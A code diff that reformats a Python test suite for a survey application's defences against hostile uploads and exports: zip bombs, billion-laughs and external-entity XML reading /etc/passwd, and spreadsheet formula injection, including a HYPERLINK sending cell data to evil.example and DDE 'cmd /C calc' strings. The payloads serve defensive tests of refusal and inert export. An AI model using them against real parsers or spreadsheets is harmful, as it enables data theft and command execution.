@@ -39,14 +39,20 @@ from tests.test_cli import invoke, write_json
 ROOT = Path(__file__).resolve().parent.parent
 NEW = "/admin/surveys/new"
 SHEET = "xl/worksheets/sheet1.xml"
-HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
-        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
-HEADER_ROW = ('<row r="1"><c r="A1" t="inlineStr"><is><t>type</t></is></c>'
-              '<c r="B1" t="inlineStr"><is><t>name</t></is></c>'
-              '<c r="C1" t="inlineStr"><is><t>label</t></is></c></row>')
-QUESTION_ROW = ('<row r="2"><c r="A2" t="inlineStr"><is><t>text</t></is></c>'
-                '<c r="B2" t="inlineStr"><is><t>q</t></is></c>'
-                '<c r="C2" t="inlineStr"><is><t>Q</t></is></c></row>')
+HEAD = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+)
+HEADER_ROW = (
+    '<row r="1"><c r="A1" t="inlineStr"><is><t>type</t></is></c>'
+    '<c r="B1" t="inlineStr"><is><t>name</t></is></c>'
+    '<c r="C1" t="inlineStr"><is><t>label</t></is></c></row>'
+)
+QUESTION_ROW = (
+    '<row r="2"><c r="A2" t="inlineStr"><is><t>text</t></is></c>'
+    '<c r="B2" t="inlineStr"><is><t>q</t></is></c>'
+    '<c r="C2" t="inlineStr"><is><t>Q</t></is></c></row>'
+)
 
 
 def small_form(path: Path) -> Path:
@@ -62,8 +68,10 @@ def with_sheet(path: Path, chunks: Iterable[str | bytes], part: str = SHEET) -> 
     """A valid one-sheet XLSForm whose `part` is replaced by `chunks`, streamed into the
     zip (so a 40 MB sheet never sits in memory) at the strongest compression."""
     source = small_form(path.with_name("source-" + path.name))
-    with zipfile.ZipFile(source) as original, \
-            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
+    with (
+        zipfile.ZipFile(source) as original,
+        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb,
+    ):
         for info in original.infolist():
             if info.filename != part:
                 bomb.writestr(info.filename, original.read(info.filename))
@@ -106,11 +114,12 @@ def versions_count() -> int:
 # ------------------------------------------------------------ finding 5: upload bombs
 
 
-def test_finding5_zip_bomb_refused_from_the_zip_directory(people, tmp_path):  # noqa: F811
+def test_finding5_zip_bomb_refused_from_the_zip_directory(people, tmp_path):
     """40 MB of empty rows in 40 KB: refused before openpyxl reads a byte of it, with a
     small page, on the web and in the CLI."""
-    bomb = with_sheet(tmp_path / "bomb.xlsx",
-                      sheet(HEADER_ROW, QUESTION_ROW, filler=empty_rows(40 * 1024 * 1024)))
+    bomb = with_sheet(
+        tmp_path / "bomb.xlsx", sheet(HEADER_ROW, QUESTION_ROW, filler=empty_rows(40 * 1024 * 1024))
+    )
     assert bomb.stat().st_size < 1024 * 1024
     client = signed_in(people, "editor@example.org")
     reply = upload(client, NEW, "bomb.xlsx", bomb.read_bytes())
@@ -125,22 +134,29 @@ def test_finding5_zip_bomb_refused_from_the_zip_directory(people, tmp_path):  # 
 
 
 def test_finding5_compression_ratio_refused(tmp_path):
-    bomb = with_sheet(tmp_path / "ratio.xlsx",
-                      sheet(HEADER_ROW, QUESTION_ROW, filler=empty_rows(5 * 1024 * 1024)))
+    bomb = with_sheet(
+        tmp_path / "ratio.xlsx", sheet(HEADER_ROW, QUESTION_ROW, filler=empty_rows(5 * 1024 * 1024))
+    )
     problem = refusal(bomb).problems[0]
     assert problem.startswith(f"{SHEET}: compressed ")
     assert f"at most {MAX_COMPRESSION_RATIO} to 1" in problem
 
 
-def test_finding5_rows_beyond_the_limit_refused(people, tmp_path):  # noqa: F811
+def test_finding5_rows_beyond_the_limit_refused(people, tmp_path):
     """One cell at row 60,000: openpyxl yields 59,998 blank rows before it."""
     far = MAX_ROWS + 10_000
-    path = with_sheet(tmp_path / "far.xlsx", sheet(
-        HEADER_ROW, QUESTION_ROW,
-        f'<row r="{far}"><c r="A{far}" t="inlineStr"><is><t>text</t></is></c></row>'))
+    path = with_sheet(
+        tmp_path / "far.xlsx",
+        sheet(
+            HEADER_ROW,
+            QUESTION_ROW,
+            f'<row r="{far}"><c r="A{far}" t="inlineStr"><is><t>text</t></is></c></row>',
+        ),
+    )
     assert refusal(path).problems == [
         f"survey sheet: more than {MAX_ROWS:,} rows (blank rows included); at most that "
-        "many are read"]
+        "many are read"
+    ]
     client = signed_in(people, "editor@example.org")
     reply = upload(client, NEW, "far.xlsx", path.read_bytes())
     assert reply.status_code == 422 and f"{MAX_ROWS:,} rows" in reply.get_data(as_text=True)
@@ -148,8 +164,10 @@ def test_finding5_rows_beyond_the_limit_refused(people, tmp_path):  # noqa: F811
 
 def test_finding5_cells_beyond_the_limit_refused(tmp_path):
     """A cell in column XFD makes a row of 16,384 cells; 62 such rows pass 1,000,000."""
-    rows = [f'<row r="{n}"><c r="XFD{n}" t="inlineStr"><is><t>x</t></is></c></row>'
-            for n in range(3, 80)]
+    rows = [
+        f'<row r="{n}"><c r="XFD{n}" t="inlineStr"><is><t>x</t></is></c></row>'
+        for n in range(3, 80)
+    ]
     path = with_sheet(tmp_path / "wide.xlsx", sheet(HEADER_ROW, QUESTION_ROW, *rows))
     [problem] = refusal(path).problems
     assert problem.startswith("survey sheet, row ")
@@ -160,26 +178,38 @@ def test_finding5_stated_dimension_does_not_pad_the_sheet(tmp_path):
     """A sheet claiming A1:XFD1048576 made openpyxl pad every row, blank ones between
     included, to 16,384 cells: one cell at row 40,000 meant 655 million. It is read as
     the rows it holds. In a subprocess: before the fix it would run for many minutes."""
-    path = with_sheet(tmp_path / "claims.xlsx", sheet(
-        HEADER_ROW, QUESTION_ROW,
-        '<row r="40000"><c r="A40000" t="inlineStr"><is><t>note</t></is></c></row>',
-        dimension='<dimension ref="A1:XFD1048576"/>'))
-    script = ("import sys\n"
-              "from survey_engine.definition.xlsform import XLSFormInvalid, read_xlsform\n"
-              "try:\n    read_xlsform(sys.argv[1])\n"
-              "except XLSFormInvalid as e:\n    print('\\n'.join(e.problems))\n")
-    done = subprocess.run([sys.executable, "-c", script, str(path)], capture_output=True,
-                          text=True, timeout=60, cwd=ROOT)
+    path = with_sheet(
+        tmp_path / "claims.xlsx",
+        sheet(
+            HEADER_ROW,
+            QUESTION_ROW,
+            '<row r="40000"><c r="A40000" t="inlineStr"><is><t>note</t></is></c></row>',
+            dimension='<dimension ref="A1:XFD1048576"/>',
+        ),
+    )
+    script = (
+        "import sys\n"
+        "from survey_engine.definition.xlsform import XLSFormInvalid, read_xlsform\n"
+        "try:\n    read_xlsform(sys.argv[1])\n"
+        "except XLSFormInvalid as e:\n    print('\\n'.join(e.problems))\n"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", script, str(path)],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        cwd=ROOT,
+    )
     assert done.returncode == 0, done.stderr
     assert done.stdout.splitlines() == [
         "pages[0].questions[1].name: letters, digits and '_', starting with a letter, up to "
         "64 characters, got None (survey sheet, row 40000)",
-        "pages[0].questions[1].label: is required (survey sheet, row 40000)"]
+        "pages[0].questions[1].label: is required (survey sheet, row 40000)",
+    ]
 
 
-def test_finding5_first_100_problems_and_the_count_of_the_rest(people, tmp_path):  # noqa: F811
-    rows = [["type", "name", "label"]] + [["no-such-type", f"q{i}", "Q"]
-                                          for i in range(3000)]
+def test_finding5_first_100_problems_and_the_count_of_the_rest(people, tmp_path):
+    rows = [["type", "name", "label"]] + [["no-such-type", f"q{i}", "Q"] for i in range(3000)]
     path = tmp_path / "many.xlsx"
     book = openpyxl.Workbook()
     book.active.title = "survey"
@@ -188,8 +218,9 @@ def test_finding5_first_100_problems_and_the_count_of_the_rest(people, tmp_path)
     book.save(path)
     refused = refusal(path)
     assert len(refused.problems) == 100 and refused.total == 3001  # + no pages at all
-    assert refused.problems[0] == \
-        "survey sheet, row 2, column type: 'no-such-type' is not supported"
+    assert (
+        refused.problems[0] == "survey sheet, row 2, column type: 'no-such-type' is not supported"
+    )
 
     client = signed_in(people, "editor@example.org")
     reply = upload(client, NEW, "many.xlsx", path.read_bytes())
@@ -205,59 +236,80 @@ def test_finding5_first_100_problems_and_the_count_of_the_rest(people, tmp_path)
     assert result.output.count("  survey sheet, row") == 100
 
 
-BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
-                  + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
-                            for i in range(1, 10))
-                  + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
-                  '2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;'
-                  '</t></is></c></row></sheetData></worksheet>')
-EXTERNAL_ENTITY = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
-                   '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
-                   'main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is>'
-                   '</c></row></sheetData></worksheet>')
+BILLION_LAUGHS = (
+    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + "".join(
+        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
+        for i in range(1, 10)
+    )
+    + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
+    '2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;'
+    '</t></is></c></row></sheetData></worksheet>'
+)
+EXTERNAL_ENTITY = (
+    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
+    'main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is>'
+    '</c></row></sheetData></worksheet>'
+)
 
 
-@pytest.mark.parametrize(("xml", "part"), [
-    (BILLION_LAUGHS, SHEET),
-    (EXTERNAL_ENTITY, SHEET),
-    (EXTERNAL_ENTITY.encode("utf-16"), SHEET),
-    ('<?xml version="1.0"?><!DOCTYPE Types SYSTEM "http://127.0.0.1:9/x.dtd"><Types xmlns='
-     '"http://schemas.openxmlformats.org/package/2006/content-types"/>', "[Content_Types].xml"),
-], ids=["billion-laughs", "external-entity", "utf-16", "content-types"])
-def test_finding5_xml_with_a_doctype_refused(people, tmp_path, xml, part):  # noqa: F811
+@pytest.mark.parametrize(
+    ("xml", "part"),
+    [
+        (BILLION_LAUGHS, SHEET),
+        (EXTERNAL_ENTITY, SHEET),
+        (EXTERNAL_ENTITY.encode("utf-16"), SHEET),
+        (
+            '<?xml version="1.0"?><!DOCTYPE Types SYSTEM "http://127.0.0.1:9/x.dtd"><Types xmlns='
+            '"http://schemas.openxmlformats.org/package/2006/content-types"/>',
+            "[Content_Types].xml",
+        ),
+    ],
+    ids=["billion-laughs", "external-entity", "utf-16", "content-types"],
+)
+def test_finding5_xml_with_a_doctype_refused(people, tmp_path, xml, part):
     path = with_sheet(tmp_path / "dtd.xlsx", [xml], part=part)
     assert refusal(path).problems == [
         f"{part}: the XML declares a DOCTYPE (entities); spreadsheet programs never write "
-        "one, so it is refused"]
+        "one, so it is refused"
+    ]
     client = signed_in(people, "editor@example.org")
     reply = upload(client, NEW, "dtd.xlsx", path.read_bytes())
     assert reply.status_code == 422 and "DOCTYPE" in reply.get_data(as_text=True)
     assert surveys_count() == 1
 
 
-def test_finding5_unreadable_sheet_xml_is_a_422(people, tmp_path):  # noqa: F811
-    path = with_sheet(tmp_path / "broken.xlsx",  # the stated size reads, the rows do not
-                      [HEAD, '<dimension ref="A1"/><sheetData><row><c r="A1"'])
+def test_finding5_unreadable_sheet_xml_is_a_422(people, tmp_path):
+    path = with_sheet(
+        tmp_path / "broken.xlsx",  # the stated size reads, the rows do not
+        [HEAD, '<dimension ref="A1"/><sheetData><row><c r="A1"'],
+    )
     [problem] = refusal(path).problems
     assert problem.startswith("the workbook cannot be read: ")
     client = signed_in(people, "editor@example.org")
     assert upload(client, NEW, "broken.xlsx", path.read_bytes()).status_code == 422
 
 
-def test_finding5_deeply_nested_json_is_a_422(people, tmp_path):  # noqa: F811
+def test_finding5_deeply_nested_json_is_a_422(people, tmp_path):
     deep = '{"format": "survey-engine/1", "title": ' + "[" * 5000 + "]" * 5000 + "}"
     client = signed_in(people, "editor@example.org")
     reply = upload(client, NEW, "deep.json", deep.encode())
     assert reply.status_code == 422
     [item] = error_items(reply.get_data(as_text=True))
     assert "32" in item
-    result = invoke(people, "import", str(tmp_path.joinpath("deep.json")) if
-                    tmp_path.joinpath("deep.json").write_text(deep) else "")
+    result = invoke(
+        people,
+        "import",
+        str(tmp_path.joinpath("deep.json"))
+        if tmp_path.joinpath("deep.json").write_text(deep)
+        else "",
+    )
     assert result.exit_code == 1 and "JSON nested deeper than 32 levels" in result.output
     assert "Traceback" not in result.output
 
 
-def test_finding5_json_problems_listed_first_100(people):  # noqa: F811
+def test_finding5_json_problems_listed_first_100(people):
     data = {**demo_definition(), "slug": "nhieu-loi"}
     data["pages"][0]["questions"] = [{"name": f"q{i}", "type": "nope"} for i in range(500)]
     client = signed_in(people, "editor@example.org")
@@ -270,7 +322,7 @@ def test_finding5_json_problems_listed_first_100(people):  # noqa: F811
 # ------------------------------------------------- finding 3: unencodable definitions
 
 
-def test_finding3_definition_lone_surrogate_refused_in_json_upload(people):  # noqa: F811
+def test_finding3_definition_lone_surrogate_refused_in_json_upload(people):
     data = {**demo_definition(), "slug": "ky-tu-hong"}
     data["pages"][0]["questions"][0]["label"] = {"vi": "Bạn\ud800 là ai?"}
     body = json.dumps(data).encode()  # ASCII: the surrogate travels as \ud800
@@ -283,7 +335,7 @@ def test_finding3_definition_lone_surrogate_refused_in_json_upload(people):  # n
     assert find_survey("ky-tu-hong") is None and surveys_count() == 1
 
 
-def test_finding3_definition_non_character_refused_in_json_keys_and_texts(people):  # noqa: F811
+def test_finding3_definition_non_character_refused_in_json_keys_and_texts(people):
     data = {**demo_definition(), "slug": "phi-ky-tu"}
     data["title"] = "Khảo sát \ufdd0"
     data["choice_lists"]["x\U0010ffff"] = [{"name": "a", "label": "A"}]
@@ -296,7 +348,7 @@ def test_finding3_definition_non_character_refused_in_json_keys_and_texts(people
     assert find_survey("phi-ky-tu") is None
 
 
-def test_finding3_definition_invalid_utf8_named_with_its_byte(people, tmp_path):  # noqa: F811
+def test_finding3_definition_invalid_utf8_named_with_its_byte(people, tmp_path):
     raw = json.dumps({**demo_definition(), "slug": "utf"}).encode()
     raw = raw.replace(b'"utf"', b'"ut\xed\xa0\x80f"')  # a surrogate encoded as UTF-8
     position = raw.index(b"\xed") + 1
@@ -305,12 +357,15 @@ def test_finding3_definition_invalid_utf8_named_with_its_byte(people, tmp_path):
     assert reply.status_code == 422
     [item] = error_items(reply.get_data(as_text=True))
     assert re.search(rf"\b{position:,}\b".replace(",", "[.,]"), item), item
-    result = invoke(people, "import", str(tmp_path.joinpath("s.json")) if
-                    tmp_path.joinpath("s.json").write_bytes(raw) else "")
+    result = invoke(
+        people,
+        "import",
+        str(tmp_path.joinpath("s.json")) if tmp_path.joinpath("s.json").write_bytes(raw) else "",
+    )
     assert result.exit_code == 1 and f"byte {position:,} cannot be read" in result.output
 
 
-def test_finding3_definition_non_character_refused_in_xlsform(people, tmp_path):  # noqa: F811
+def test_finding3_definition_non_character_refused_in_xlsform(people, tmp_path):
     path = tmp_path / "form.xlsx"
     book = openpyxl.Workbook()
     book.active.title = "survey"
@@ -325,14 +380,15 @@ def test_finding3_definition_non_character_refused_in_xlsform(people, tmp_path):
         "pages[0].questions[0].label: character 4 is U+FDD0, which cannot be stored (NUL, a "
         "lone surrogate or a Unicode non-character): 'Tên\\ufdd0' (survey sheet, row 2)",
         "choice_lists.l[0].label: character 2 is U+1FFFE, which cannot be stored (NUL, a "
-        "lone surrogate or a Unicode non-character): 'A\\U0001fffe' (choices sheet, row 2)"]
+        "lone surrogate or a Unicode non-character): 'A\\U0001fffe' (choices sheet, row 2)",
+    ]
     client = signed_in(people, "editor@example.org")
     reply = upload(client, NEW, "form.xlsx", path.read_bytes())
     assert reply.status_code == 422 and "U+FDD0" in reply.get_data(as_text=True)
     assert surveys_count() == 1
 
 
-def test_finding3_definition_refused_in_cli_import(people, tmp_path):  # noqa: F811
+def test_finding3_definition_refused_in_cli_import(people, tmp_path):
     data = {**demo_definition(), "slug": "cli-\ud800"}
     before = versions_count()
     path = tmp_path / "s.json"
@@ -346,7 +402,7 @@ def test_finding3_definition_refused_in_cli_import(people, tmp_path):  # noqa: F
     assert versions_count() == before
 
 
-def test_finding3_definition_refused_in_the_builder(people):  # noqa: F811
+def test_finding3_definition_refused_in_the_builder(people):
     client = signed_in(people, "editor@example.org")
     edit = f"/admin/surveys/{DEMO_SLUG}/edit"
     fields = question_form(client, "comment")
@@ -355,11 +411,12 @@ def test_finding3_definition_refused_in_the_builder(people):  # noqa: F811
     assert reply.status_code == 422
     assert "U+FDD0" in reply.get_data(as_text=True)
     db.session.expire_all()
-    assert "\ufdd0" not in json.dumps(find_survey(DEMO_SLUG).versions[-1].definition,
-                                      ensure_ascii=False)
+    assert "\ufdd0" not in json.dumps(
+        find_survey(DEMO_SLUG).versions[-1].definition, ensure_ascii=False
+    )
 
 
-def test_finding4_regex_from_an_answer_refused_in_the_builder(people):  # noqa: F811
+def test_finding4_regex_from_an_answer_refused_in_the_builder(people):
     client = signed_in(people, "editor@example.org")
     edit = f"/admin/surveys/{DEMO_SLUG}/edit"
     fields = question_form(client, "comment")
@@ -373,8 +430,16 @@ def test_finding4_regex_from_an_answer_refused_in_the_builder(people):  # noqa: 
 
 # ---------------------------------------------- finding 10: the definition workbook
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "@SUM(1+1)*cmd|' /C calc'!A0",
-           "+cmd|' /C calc'!A0", "-2+3", "=1+1", "\t=1+1", "\r=1+1", "=A1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "=A1",
+]
 
 
 def hostile_definition(blank_prefixes: bool = True) -> dict:
@@ -384,18 +449,30 @@ def hostile_definition(blank_prefixes: bool = True) -> dict:
     data["title"] = {"vi": HOSTILE[0], "en": HOSTILE[1]}
     data["description"] = HOSTILE[2]
     page = data["pages"][0]
-    page["title"] = HOSTILE[3] if not isinstance(page.get("title"), dict) \
+    page["title"] = (
+        HOSTILE[3]
+        if not isinstance(page.get("title"), dict)
         else {**page["title"], "vi": HOSTILE[3]}
+    )
     question = next(q for q in page["questions"] if "label" in q)
-    question["label"] = {**question["label"], "vi": HOSTILE[4]} \
-        if isinstance(question["label"], dict) else HOSTILE[4]
+    question["label"] = (
+        {**question["label"], "vi": HOSTILE[4]}
+        if isinstance(question["label"], dict)
+        else HOSTILE[4]
+    )
     question["hint"] = HOSTILE[5] if blank_prefixes else "@x"
     question["constraint_message"] = HOSTILE[6] if blank_prefixes else "-x"
     first_list = next(iter(data["choice_lists"].values()))
-    first_list[0]["label"] = {**first_list[0]["label"], "vi": HOSTILE[7]} \
-        if isinstance(first_list[0]["label"], dict) else HOSTILE[7]
-    first_list[1]["label"] = HOSTILE[0] if not isinstance(first_list[1]["label"], dict) \
+    first_list[0]["label"] = (
+        {**first_list[0]["label"], "vi": HOSTILE[7]}
+        if isinstance(first_list[0]["label"], dict)
+        else HOSTILE[7]
+    )
+    first_list[1]["label"] = (
+        HOSTILE[0]
+        if not isinstance(first_list[1]["label"], dict)
         else {**first_list[1]["label"], "vi": "+" + str(first_list[1]["label"]["vi"])}
+    )
     return data
 
 
@@ -420,11 +497,15 @@ def assert_inert(path: Path) -> int:
     return seen
 
 
-def test_finding10_definition_workbook_cells_are_inert(people):  # noqa: F811
+def test_finding10_definition_workbook_cells_are_inert(people):
     data = hostile_definition()
     client = signed_in(people, "admin@example.org")
-    reply = upload(client, f"/admin/surveys/{DEMO_SLUG}", "hostile.json",
-                   json.dumps(data, ensure_ascii=False).encode())
+    reply = upload(
+        client,
+        f"/admin/surveys/{DEMO_SLUG}",
+        "hostile.json",
+        json.dumps(data, ensure_ascii=False).encode(),
+    )
     assert reply.status_code == 302, reply.get_data(as_text=True)[:3000]
     reply = client.get(f"/admin/surveys/{DEMO_SLUG}/definition.xlsx")
     assert reply.status_code == 200
@@ -440,15 +521,16 @@ def test_finding10_definition_workbook_cells_are_inert(people):  # noqa: F811
     assert len(title) == 1 and title[0].data_type == "s"
 
 
-def test_finding10_export_definition_is_inert_and_round_trips(people, tmp_path):  # noqa: F811
+def test_finding10_export_definition_is_inert_and_round_trips(people, tmp_path):
     data = hostile_definition()
     path = tmp_path / "hostile.xlsx"
     write_xlsform(data, path)
     assert assert_inert(path) >= 8
     back = read_xlsform(path)
     # Leading tab / CR are blank space, trimmed by the reader as in every cell.
-    expected = json.loads(json.dumps(data).replace('"\\t=1+1"', '"=1+1"')
-                          .replace('"\\r=1+1"', '"=1+1"'))
+    expected = json.loads(
+        json.dumps(data).replace('"\\t=1+1"', '"=1+1"').replace('"\\r=1+1"', '"=1+1"')
+    )
     assert back == expected
 
     data = {**hostile_definition(blank_prefixes=False), "slug": "doc-hai"}
@@ -465,7 +547,7 @@ def test_finding10_export_definition_is_inert_and_round_trips(people, tmp_path):
     assert len(find_survey("doc-hai").versions) == 1
 
 
-def test_finding5_upload_over_the_size_limit_says_so_on_the_upload_page(people):  # noqa: F811
+def test_finding5_upload_over_the_size_limit_says_so_on_the_upload_page(people):
     """Over ADMIN_UPLOAD_MAX_BYTES (8 MiB) the editor saw the citizens' 'shorten your
     answers' page; now the upload page, with the limit."""
     client = signed_in(people, "editor@example.org")
@@ -485,35 +567,37 @@ def test_finding5_reading_time_is_capped(tmp_path, monkeypatch):
     (the real limit, 15 s, is documented; waiting for it here would only slow the
     suite)."""
     from survey_engine.definition import xlsform
+
     monkeypatch.setattr(xlsform, "MAX_SECONDS", 0.0)
     assert refusal(small_form(tmp_path / "slow.xlsx")).problems == [
-        "survey sheet, row 1: reading took more than 0 seconds; the workbook is too large"]
+        "survey sheet, row 1: reading took more than 0 seconds; the workbook is too large"
+    ]
 
 
 def stored_before_the_checks(definition: dict) -> None:
     """A new draft of the demo holding `definition` as it is, unchecked: what a database
     written before these fixes may hold."""
     survey = find_survey(DEMO_SLUG)
-    db.session.add(SurveyVersion(survey=survey, number=survey.versions[-1].number + 1,
-                                 definition=definition))
+    db.session.add(
+        SurveyVersion(survey=survey, number=survey.versions[-1].number + 1, definition=definition)
+    )
     db.session.commit()
 
 
-def test_finding4_version_stored_with_a_pattern_from_an_answer_still_downloads(people):  # noqa: F811
+def test_finding4_version_stored_with_a_pattern_from_an_answer_still_downloads(people):
     """regex(., ${q1}) was accepted before: such a version still downloads (the file then
     names the problem when imported) and publishing it is refused with a message."""
     data = demo_definition()
-    question = next(q for q in data["pages"][0]["questions"] if q["type"] == "text"
-                    or "label" in q)
+    question = next(q for q in data["pages"][0]["questions"] if q["type"] == "text" or "label" in q)
     question["constraint"] = "regex(., ${source})"
     stored_before_the_checks(data)
     client = signed_in(people, "admin@example.org")
     reply = client.get(f"/admin/surveys/{DEMO_SLUG}/definition.xlsx")
     assert reply.status_code == 200
     book = openpyxl.load_workbook(io.BytesIO(reply.get_data()))
-    assert "regex(., ${source})" in [c.value for row in book["survey"].iter_rows()
-                                     for c in row]
+    assert "regex(., ${source})" in [c.value for row in book["survey"].iter_rows() for c in row]
     from tests.test_admin_surveys import post
+
     reply = post(client, f"/admin/surveys/{DEMO_SLUG}/publish")
     assert reply.status_code == 302
     page = client.get(f"/admin/surveys/{DEMO_SLUG}").get_data(as_text=True)
@@ -522,7 +606,7 @@ def test_finding4_version_stored_with_a_pattern_from_an_answer_still_downloads(p
     assert find_survey(DEMO_SLUG).versions[-1].published_at is None
 
 
-def test_finding3_definition_stored_with_a_lone_surrogate_still_downloads(people, tmp_path):  # noqa: F811
+def test_finding3_definition_stored_with_a_lone_surrogate_still_downloads(people, tmp_path):
     """Only SQLite could store one (PostgreSQL's jsonb refuses \\ud800): the downloads
     write it escaped (JSON) or as U+FFFD (XLSForm) instead of failing."""
     if db.engine.dialect.name != "sqlite":
